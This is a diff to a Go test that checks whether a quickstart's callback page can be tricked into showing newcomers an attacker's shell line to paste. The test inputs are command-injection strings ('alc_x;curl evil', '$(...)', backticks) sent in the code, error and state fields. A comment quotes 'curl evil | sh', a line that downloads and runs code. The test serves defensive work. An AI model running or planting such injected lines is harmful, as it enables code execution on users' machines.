@@ -268,19 +268,29 @@ func TestQuickstartReadmeFlowRunsAsWritten(t *testing.T) {
 }
 
 // TestQuickstartCallbackPageOffersNoInjectedCommands: a crafted link to the
-// quickstart's callback page cannot make it offer a shell line of the
-// attacker's (`CODE=x; curl evil | sh`) for the newcomer to paste.
+// quickstart's callback page cannot make it offer a shell line or text of
+// the attacker's (`CODE=x; curl evil | sh`) for the newcomer to paste.
 func TestQuickstartCallbackPageOffersNoInjectedCommands(t *testing.T) {
 	startQuickstart(t)
-	for _, code := range []string{"alc_x;id", "alc_x$(id)", "alc_x`id`", "alc_x\nid", "alc_x id", "x"} {
-		resp, err := http.Get(quickstartBase + "/demo/callback?code=" + url.QueryEscape(code))
+	const injected = "curl evil"
+	for _, query := range []url.Values{
+		{"code": {"alc_x;" + injected}},
+		{"code": {"alc_x$(" + injected + ")"}},
+		{"code": {"alc_x`" + injected + "`"}},
+		{"code": {"alc_x\n" + injected}},
+		{"code": {"alc_x " + injected}},
+		{"code": {injected}},
+		{"error": {injected}},
+		{"error_description": {injected}, "state": {injected}},
+	} {
+		resp, err := http.Get(quickstartBase + "/demo/callback?" + query.Encode())
 		if err != nil {
 			t.Fatal(err)
 		}
 		page, _ := io.ReadAll(resp.Body)
 		resp.Body.Close()
-		if resp.StatusCode != http.StatusBadRequest || strings.Contains(string(page), "CODE=") {
-			t.Errorf("code %q: %d\n%s", code, resp.StatusCode, page)
+		if resp.StatusCode != http.StatusBadRequest || strings.Contains(string(page), "CODE=") || strings.Contains(string(page), injected) {
+			t.Errorf("%s: %d\n%s", query.Encode(), resp.StatusCode, page)
 		}
 	}
 }
